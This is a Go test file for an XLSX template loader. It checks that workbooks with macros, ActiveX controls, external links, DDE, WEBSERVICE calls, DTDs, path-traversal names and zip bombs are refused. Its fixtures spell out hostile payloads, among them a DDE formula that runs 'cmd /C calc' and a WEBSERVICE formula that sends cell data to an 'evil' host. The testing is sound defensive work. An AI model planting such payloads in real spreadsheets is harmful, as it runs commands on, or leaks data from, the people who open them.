package xlsx_test

import (
	"archive/zip"
	"bytes"
	"fmt"
	"io"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"clipsheet/clips"
	"clipsheet/xlsx"
)

// tampered is the model with parts changed or added.
func tampered(t testing.TB, parts map[string]string) []byte {
	t.Helper()
	model := modelBook(t)
	z, err := zip.NewReader(bytes.NewReader(model), int64(len(model)))
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range z.File {
		if _, ok := parts[f.Name]; ok {
			continue
		}
		if err := w.Copy(f); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range parts {
		part, err := w.Create(name)
		if err == nil {
			_, err = io.WriteString(part, text)
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// part is the text of a part of the model, with a change.
func part(t testing.TB, name, old, now string) map[string]string {
	t.Helper()
	text := parts(t, modelBook(t))[name]
	if !strings.Contains(text, old) {
		t.Fatalf("%s has no %s", name, old)
	}
	return map[string]string{name: strings.Replace(text, old, now, 1)}
}

func TestUploadsThatCouldDoHarmAreRefusedByName(t *testing.T) {
	t.Parallel()
	const sheet1, sheetXML = "xl/worksheets/sheet1.xml", "<sheetData>"
	formula := func(f string) map[string]string {
		return part(t, sheet1, sheetXML, `<sheetData><row r="1"><c r="A1"><f>`+f+`</f></c></row>`)
	}
	compound := "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + strings.Repeat("\x00", 600)
	for name, c := range map[string]struct {
		file []byte
		says string
	}{
		"macros":           {tampered(t, map[string]string{"xl/vbaProject.bin": "x"}), "has macros"},
		"macros, hidden":   {tampered(t, map[string]string{"xl/VBAPROJECT.BIN": "x"}), "has macros"},
		"macro sheets":     {tampered(t, map[string]string{"xl/macrosheets/sheet1.xml": "<x/>"}), "has macros"},
		"macro type":       {tampered(t, part(t, "[Content_Types].xml", "spreadsheetml.sheet.main", "sheet.macroEnabled.main")), "has macros"},
		"macro elsewhere":  {tampered(t, part(t, "xl/_rels/workbook.xml.rels", "</Relationships>", `<Relationship Id="r9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/></Relationships>`)), "has macros"},
		"ActiveX":          {tampered(t, map[string]string{"xl/activeX/activeX1.xml": "<x/>"}), "ActiveX controls"},
		"external links":   {tampered(t, map[string]string{"xl/externalLinks/externalLink1.xml": "<x/>"}), "links to other workbooks or programs"},
		"external picture": {tampered(t, part(t, "xl/_rels/workbook.xml.rels", "</Relationships>", `<Relationship Id="r9" Type="http://x/relationships/image" Target="\\evil\x" TargetMode="External"/></Relationships>`)), "links to files elsewhere"},
		"connections":      {tampered(t, map[string]string{"xl/connections.xml": "<x/>"}), "data connections"},
		"DDE":              {tampered(t, formula(`cmd|'/C calc'!A0`)), "DDE"},
		"DDE, escaped":     {tampered(t, formula(`cmd|&apos;/C calc&apos;!A0`)), "DDE"},
		"DDE link":         {tampered(t, part(t, sheet1, sheetXML, `<ddeLink/><sheetData>`)), "DDE"},
		"WEBSERVICE":       {tampered(t, formula(`WEBSERVICE("https://evil/?"&amp;A1)`)), "WEBSERVICE()"},
		"WEBSERVICE, new":  {tampered(t, formula(`_xlfn.WEBSERVICE(A1)`)), "WEBSERVICE()"},
		"a DTD":            {tampered(t, part(t, sheet1, "<worksheet", `<!DOCTYPE x [<!ENTITY a "b">]><worksheet`)), "document type definition"},
		"UTF-16":           {tampered(t, map[string]string{"xl/x.xml": "\xff\xfe<\x00!\x00D\x00"}), "not UTF-8"},
		"a way out":        {tampered(t, map[string]string{"xl/../../etc/passwd": "x"}), `the name "xl/../../etc/passwd"`},
		"the root":         {tampered(t, map[string]string{"/etc/passwd": "x"}), `the name "/etc/passwd"`},
		"a drive":          {tampered(t, map[string]string{`C:\x`: "x"}), `the name "C:\\x"`},
		"twice":            {tampered(t, map[string]string{"XL/Workbook.xml": "<workbook/>"}), "two parts with the name"},
		"a bomb":           {tampered(t, map[string]string{"xl/x.bin": strings.Repeat("\x00", 50<<20)}), "unpacks to more than"},
		"many parts":       {tampered(t, manyParts(2001)), "parts, and 2,000 are the most"},
		"no workbook":      {[]byte("PK\x05\x06" + strings.Repeat("\x00", 18)), "no Excel workbook"},
		"no zip":           {[]byte("hello"), "no Excel workbook"},
		"nothing":          {nil, "no Excel workbook"},
		"a password":       {[]byte(compound + "E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00"), "encrypted with a password"},
		"an old one":       {[]byte(compound), "of the old kind (.xls)"},
		"Strict":           {tampered(t, part(t, "xl/workbook.xml", "http://schemas.openxmlformats.org/spreadsheetml/2006/main", "http://purl.oclc.org/ooxml/spreadsheetml/main")), "Strict Open XML"},
		"broken XML":       {tampered(t, part(t, "xl/workbook.xml", "</sheets>", "</sheet>")), "cannot be read"},
		"too large":        {make([]byte, xlsx.LargestTemplate+1), "larger than 10 MiB"},
	} {
		_, err := xlsx.OpenTemplate(bytes.NewReader(c.file), int64(len(c.file)))
		if kind := clips.KindOf(err); kind != clips.KindParameter && kind != clips.KindTooLarge || !strings.Contains(clips.NoticeOf(err), c.says) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func manyParts(n int) map[string]string {
	parts := map[string]string{}
	for i := range n {
		parts[fmt.Sprintf("xl/media/%d", i)] = ""
	}
	return parts
}

// The sizes a zip file gives are not to be believed: this one says its part is empty.
func TestBombThatLiesAboutItsSizeIsStopped(t *testing.T) {
	t.Parallel()
	file := tampered(t, map[string]string{"xl/x.bin": strings.Repeat("\x00", 50<<20)})
	at := bytes.LastIndex(file, []byte("PK\x01\x02"))
	copy(file[at+24:at+28], []byte{0, 0, 0, 0}) // the uncompressed size
	began := time.Now()
	if _, err := xlsx.OpenTemplate(bytes.NewReader(file), int64(len(file))); err == nil {
		t.Error("it was accepted")
	}
	if took := time.Since(began); took > 10*time.Second {
		t.Errorf("it took %s", took)
	}
}

func TestEncryptedPartsAreRefused(t *testing.T) {
	t.Parallel()
	file := tampered(t, nil)
	at := bytes.Index(file, []byte("PK\x01\x02"))
	file[at+8] |= 1 // of the first part in the list
	_, err := xlsx.OpenTemplate(bytes.NewReader(file), int64(len(file)))
	if clips.KindOf(err) != clips.KindParameter || !strings.Contains(clips.NoticeOf(err), "is encrypted") {
		t.Error(err)
	}
}

func TestFormulasThatReachOutOfTheTableAreRefused(t *testing.T) {
	t.Parallel()
	const old, now = `<f>B2*$H$1</f>`, `<f t="shared" ref="D2:D9" si="0">B2*$H$1</f>`
	template := open(t, tampered(t, part(t, "xl/worksheets/sheet1.xml", old, now)))
	_, err := template.Fill(io.Discard, xlsx.Book{Sheets: []xlsx.Sheet{ledger(1)}}, nil)
	if clips.KindOf(err) != clips.KindParameter || !strings.Contains(clips.NoticeOf(err), `The formula in D2 of the tab "Data"`) {
		t.Error(err)
	}
}

func TestLinksBehindWordsAreNoHarm(t *testing.T) {
	t.Parallel()
	file := tampered(t, part(t, "xl/_rels/workbook.xml.rels", "</Relationships>", `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/`+
		`officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/></Relationships>`))
	open(t, file)
}

// A workbook that LibreOffice has saved, with its own ways of writing the same things.
func TestTemplatesOfLibreOfficeAreFilled(t *testing.T) {
	t.Parallel()
	dir := libreOffice(t, "xlsx:Calc MS Excel 2007 XML", save(t, modelBook(t)))
	path := filepath.Join(dir, "filled.xlsx")
	refilled := save(t, fill(t, open(t, readFile(t, path)), ledger(50)))
	tabs := csvOfTabs(t, refilled)[refilled]
	if got, want := tabs["Summary"][0][0], "1287.5"; got != want {
		t.Errorf("LibreOffice adds up %s, want %s", got, want)
	}
	pictures := libreOffice(t, "pdf", refilled)
	if out, err := exec.CommandContext(t.Context(), "pdftotext", filepath.Join(pictures, "filled.pdf"), "-").Output(); err != nil || !strings.Contains(string(out), "50.25") {
		t.Errorf("the last amount is not on paper (install pdftotext with apt-get install poppler-utils): %v", err)
	}
}

// The rows of a table may be hidden by a filter that was for others.
func TestFiltersOfTheTemplateAreTakenOff(t *testing.T) {
	t.Parallel()
	parts1 := part(t, "xl/tables/table1.xml", `<autoFilter ref="A1:D4"></autoFilter>`,
		`<autoFilter ref="A1:D4"><filterColumn colId="0"><filters><filter val="EMEA"/></filters></filterColumn></autoFilter>`)
	for name, text := range part(t, "xl/worksheets/sheet1.xml", `<row r="3">`, `<row r="3" spans="1:6" hidden="1">`) {
		parts1[name] = text
	}
	all := parts(t, fill(t, open(t, tampered(t, parts1)), ledger(5)))
	if table := all["xl/tables/table1.xml"]; strings.Contains(table, "filterColumn") || !strings.Contains(table, `<autoFilter ref="A1:D6">`) {
		t.Error(table)
	}
	if strings.Contains(all["xl/worksheets/sheet1.xml"], "hidden") || strings.Contains(all["xl/worksheets/sheet1.xml"], "spans") {
		t.Error("a row is still hidden")
	}
}

func TestChainOfCalculationLosesWhatIsReplaced(t *testing.T) {
	t.Parallel()
	chain := func(cells string) []byte {
		p := part(t, "[Content_Types].xml", "</Types>", `<Override PartName="/xl/calcChain.xml" ContentType="application/x"></Override></Types>`)
		for name, text := range part(t, "xl/_rels/workbook.xml.rels", "</Relationships>", `<Relationship Id="rc" Type="http://x/calcChain" Target="calcChain.xml"/></Relationships>`) {
			p[name] = text
		}
		p["xl/calcChain.xml"] = `<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">` + cells + `</calcChain>`
		return tampered(t, p)
	}
	all := parts(t, fill(t, open(t, chain(`<c r="D2" i="1"/><c r="G2"/><c r="A1" i="2"/>`)), ledger(5)))
	if got := all["xl/calcChain.xml"]; !strings.Contains(got, `main"><c r="G2" i="1"/><c r="A1" i="2"/></calcChain>`) {
		t.Error(got)
	}
	all = parts(t, fill(t, open(t, chain(`<c r="D2" i="1"/><c r="D3"/>`)), ledger(5)))
	if _, ok := all["xl/calcChain.xml"]; ok || strings.Contains(all["[Content_Types].xml"]+all["xl/_rels/workbook.xml.rels"], "calcChain") {
		t.Error("a chain of nothing is left")
	}
}

// Some programs write a prefix before each name.
func TestPrefixedTabsAreFilled(t *testing.T) {
	t.Parallel()
	const main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
	file := tampered(t, map[string]string{"xl/worksheets/sheet2.xml": `<x:worksheet xmlns:x="` + main + `"><x:sheetData><x:row r="1">` +
		`<x:c r="B1"><x:v>7</x:v></x:c></x:row></x:sheetData></x:worksheet>`})
	path := save(t, fill(t, open(t, file), xlsx.Sheet{Name: "answer", Rows: result("n:integer", row("42"), row("43")), Count: 2}))
	for name, cells := range map[string]map[string]readCell{"openpyxl": readers["openpyxl"](t, path)["Summary"]} {
		if cells["B1"].Value != 7.0 || cells["C1"].Value != 42.0 || cells["C2"].Value != 43.0 {
			t.Errorf("%s reads %v", name, cells)
		}
	}
	empty := tampered(t, map[string]string{"xl/worksheets/sheet2.xml": `<worksheet xmlns="` + main + `"><sheetData/></worksheet>`})
	path = save(t, fill(t, open(t, empty), xlsx.Sheet{Name: "answer", Rows: result("n:integer", row("42")), Count: 1}))
	if cells := readers["openpyxl"](t, path)["Summary"]; cells["C1"].Value != 42.0 {
		t.Errorf("a tab without rows becomes %v", cells)
	}
}

// smallBook is a template of one tab and one table, made of its parts.
func smallBook(tab, table string) []byte {
	const main = `xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`
	const rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, p := range [][2]string{
		{"[Content_Types].xml", "<Types/>"},
		{"xl/workbook.xml", `<workbook ` + main + ` xmlns:r="` + rel + `"><sheets><sheet name="T" sheetId="1" r:id="r1"/></sheets></workbook>`},
		{"xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="r1" Type="` + rel + `/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`},
		{"xl/worksheets/sheet1.xml", tab},
		{"xl/worksheets/_rels/sheet1.xml.rels", `<Relationships><Relationship Id="r1" Type="` + rel + `/table" Target="../tables/table1.xml"/></Relationships>`},
		{"xl/tables/table1.xml", table},
	} {
		part, _ := w.CreateHeader(&zip.FileHeader{Name: p[0]}) // in memory nothing fails
		io.WriteString(part, p[1])
	}
	w.Close()
	return b.Bytes()
}

// Whatever a tab or a table is made of, it is filled into a whole workbook, or refused in words.
func FuzzTemplate(f *testing.F) {
	const tab = `<worksheet><dimension ref="A1"/><cols><col min="1" max="2" style="1"/></cols><sheetData><row r="1" spans="1:2"><c r="A1" t="s"><v>0</v></c></row>` +
		`<row r="2" ht="20"><c r="A2" s="1"/><c r="B2"><f t="shared" ref="B2:B3" si="0">A2*2</f><v>4</v></c><c r="D2"><f>SUM(A2:A3)</f></c></row></sheetData>` +
		`<mergeCells><mergeCell ref="F1:G2"/></mergeCells></worksheet>`
	const table = `<table displayName="t" ref="A1:B4" totalsRowCount="1"><autoFilter ref="A1:B3"/><tableColumns><tableColumn name="a"/><tableColumn name="b">` +
		`<calculatedColumnFormula>A2*2</calculatedColumnFormula></tableColumn></tableColumns></table>`
	f.Add(tab, table, 3)
	f.Add(strings.ReplaceAll(strings.ReplaceAll(tab, "<", "<x:"), "<x:/", "</x:"), table, 0)
	f.Add(strings.Replace(tab, ` r="2"`, "", 1), strings.Replace(table, "totalsRowCount", "headerRowCount", 1), 1)
	f.Add(`<worksheet><sheetData/></worksheet>`, table, 2)
	f.Fuzz(func(t *testing.T, tab, table string, n int) {
		file := smallBook(tab, table)
		template, err := xlsx.OpenTemplate(bytes.NewReader(file), int64(len(file)))
		if err == nil && len(template.Places()) > 0 {
			err = fillAny(t, template, n&0xff)
		}
		if kind := clips.KindOf(err); err != nil && kind != clips.KindParameter && kind != clips.KindTooLarge {
			t.Errorf("%v", err)
		}
	})
}

func fillAny(t *testing.T, template *xlsx.Template, n int) error {
	p := template.Places()[0]
	rows := &fixed{rows: make([][][]byte, n)}
	for _, name := range p.Columns[:max(0, len(p.Columns)-1)] {
		rows.header.Columns = append(rows.header.Columns, clips.Column{Name: name})
	}
	for i := range rows.rows {
		rows.rows[i] = make([][]byte, len(rows.header.Columns))
		for j := range rows.rows[i] {
			rows.rows[i][j] = []byte("v")
		}
	}
	var out bytes.Buffer
	s := sheet(p.Name, rows)
	s.Count = int64(n)
	_, err := template.Fill(&out, xlsx.Book{Sheets: []xlsx.Sheet{s}}, nil)
	if err == nil {
		if filled := parts(t, out.Bytes())["xl/worksheets/sheet1.xml"]; strings.Count(filled, "<is><t>v</t></is>") < n*len(rows.header.Columns) {
			t.Errorf("%d rows of %d columns are not all in %s", n, len(rows.header.Columns), filled)
		}
	}
	return err
}
